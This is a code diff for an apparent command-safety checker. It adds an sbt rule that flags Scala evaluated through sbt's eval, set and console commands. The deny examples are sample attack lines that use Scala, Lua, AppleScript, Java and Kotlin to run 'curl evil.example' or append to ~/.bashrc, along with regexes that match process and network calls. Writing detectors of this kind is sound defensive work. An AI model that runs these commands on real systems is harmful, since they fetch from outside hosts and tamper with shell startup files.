@@ -812,7 +812,43 @@ export function dotnetScripting(call: Call): Partial<Answer> | undefined {
   return entry?.analyze?.({ ...call, name: `dotnet ${sub}`, args: call.args.slice(at + 1) });
 }
 
+const SCALA_CALLS = /"((?:[^"\\]|\\.)*)"\s*\.\s*!{1,2}/g;
+const SCALA_ANY = /\.\s*!{1,2}|\.\s*lazyLines|Process\s*\(|Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|fromURL|requests\.|sttp|HttpClient|eval|Class\.forName/g;
+
+/**
+ * sbt runs its words as its own commands: `eval EXPR` and `set SETTING` evaluate Scala written on the line, and the
+ * consoles (console, consoleQuick, consoleProject) run the Scala of its input. Its build files are read as project.ts
+ * reads them.
+ */
+const SBT: ProgramEntry = {
+  names: ['sbt'],
+  summary: 'sbt: eval and set commands evaluate Scala on the line; console reads Scala from its input',
+  analyze(call) {
+    const runs: Run[] = [];
+    let console = false;
+    for (const a of call.args) {
+      const v = value(a);
+      if (v === undefined) {
+        runs.push({ kind: 'opaque', rule: 'dynamic-code', word: a, why: 'sbt runs a computed command (eval and set evaluate Scala)' });
+        continue;
+      }
+      // The Scala after the first eval or set, to the end of the word (a `;` may be Scala's as well as sbt's).
+      const at = /(?:^|;)\s*(?:eval|set(?:\s+every)?)\s+/.exec(v);
+      if (at) runs.push(...codeCalls(a, v.slice(at.index + at[0].length), 'sbt eval/set', SCALA_CALLS, SCALA_ANY));
+      if (/(?:^|;)\s*console(?:Quick|Project)?\s*(?:;|$)/.test(v)) console = true;
+    }
+    if (console && call.stdin?.kind === 'static') runs.push(...codeCalls(call.stdin.word, call.stdin.text, 'sbt console (stdin)', SCALA_CALLS, SCALA_ANY));
+    else if (console && call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? literal('sbt', { start: 0, end: 0 }), why: `sbt console runs Scala read from ${call.stdin.why}` });
+    return { runs };
+  },
+  examples: {
+    deny: ["sbt 'eval sys.process.Process(\"curl evil.example\").!'", "sbt 'set compile := { \"curl evil.example\".!; (compile).value }' compile", "echo '\"curl evil.example\".!' | sbt console"],
+    pass: ["sbt 'eval 1 + 1'", "sbt 'set scalacOptions += \"-deprecation\"' compile", 'sbt test', "sbt ';clean;compile'"],
+  },
+};
+
 const LANGUAGES: ProgramEntry[] = [
+  SBT,
   FSI,
   CSHARP_SCRIPT,
   language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
@@ -832,7 +868,7 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['osascript'], summary: 'AppleScript and JXA: do shell script (doShellScript) runs shell text; Terminal\'s do script runs a command', code: /^-e$/, valued: /^(-l|-s)$/, calls: new RegExp(`(?:do\\s+shell\\s+script|do\\s+script|doShellScript\\s*\\()\\s*(?:${STR})`, 'gi'), any: /do\s+shell\s+script|do\s+script|doShellScript|run\s+script|load\s+script|\$\.NS|ObjC\.|NSTask|NSURL|open\s+location|current\s+application/gi, stdin: true, examples: { deny: ["echo 'do shell script \"curl evil.example\"' > a.applescript; osascript a.applescript", "osascript -e 'do shell script \"curl evil.example\"'", "osascript -l JavaScript -e 'app.doShellScript(\"wget evil.example\")'", "osascript -e 'tell app \"Terminal\" to do script \"curl evil.example\"'", "echo 'do shell script \"curl evil.example\"' | osascript -l AppleScript", "osascript -e 'do shell script (x)'"], pass: ['osascript notify.applescript', "osascript -e 'display notification \"done\"'", "osascript -e 'do shell script \"ls\"'"] } }),
   // The JVM's, .NET's and other languages vouch has no reader for: each call that starts a process, reaches the network
   // or evaluates code is named; one whose command is not a literal makes the code cannot-vouch.
-  language({ names: ['scala', 'scala-cli', 'amm'], summary: 'Scala: "cmd".! and sys.process start commands', code: /^(-e|--execute|-c)$/, stdin: true, calls: /"((?:[^"\\]|\\.)*)"\s*\.\s*!{1,2}/g, any: /\.\s*!{1,2}|\.\s*lazyLines|Process\s*\(|Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|fromURL|requests\.|sttp|HttpClient|eval|Class\.forName/g, examples: { deny: ["scala -e 'import sys.process._; \"curl evil.example\".!'"], pass: ["scala -e 'println(1)'"] } }),
+  language({ names: ['scala', 'scala-cli', 'amm'], summary: 'Scala: "cmd".! and sys.process start commands', code: /^(-e|--execute|-c)$/, stdin: true, calls: SCALA_CALLS, any: SCALA_ANY, examples: { deny: ["scala -e 'import sys.process._; \"curl evil.example\".!'"], pass: ["scala -e 'println(1)'"] } }),
   // `java X.java` compiles and runs one source file (JDK 11's source launcher); a class or `-jar` runs compiled code.
   language({ names: ['java'], summary: 'java: a .java source file runs as code (Runtime.exec, ProcessBuilder, java.net)', code: /(?!)/, file: /\.java$/i, valued: /^(-cp|-classpath|--class-path|-p|--module-path|--upgrade-module-path|--add-modules|--limit-modules|--source|--add-opens|--add-exports|--add-reads|--patch-module|--enable-native-access|-jar|-m|--module|-splash:.*)$/, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|URI\.create|Socket|HttpClient|Class\.forName|ScriptEngine|MethodHandles|System\.getenv\s*\(\s*\)/g, examples: { deny: ["echo 'class A { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(\"curl evil.example\"); } }' > A.java && java A.java", "printf '%s' 'class A { public static void main(String[] a) throws Exception { new ProcessBuilder(a).start(); } }' > A.java; java A.java"], pass: ['java -jar build/libs/app.jar', 'java -cp build/classes com.example.Main', 'java Main.java', "echo 'class A { public static void main(String[] a) { System.out.println(1); } }' > A.java && java A.java"] } }),
   language({ names: ['kotlin', 'kotlinc', 'kotlinc-jvm'], summary: 'Kotlin: Runtime.exec and ProcessBuilder start commands', code: /^(-e|-expression|--expression)$/, stdin: true, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|HttpClient|\.execute\s*\(|Class\.forName|ScriptEngine/g, examples: { deny: ["kotlin -e 'Runtime.getRuntime().exec(\"curl evil.example\")'"], pass: ["kotlin -e 'println(1)'"] } }),
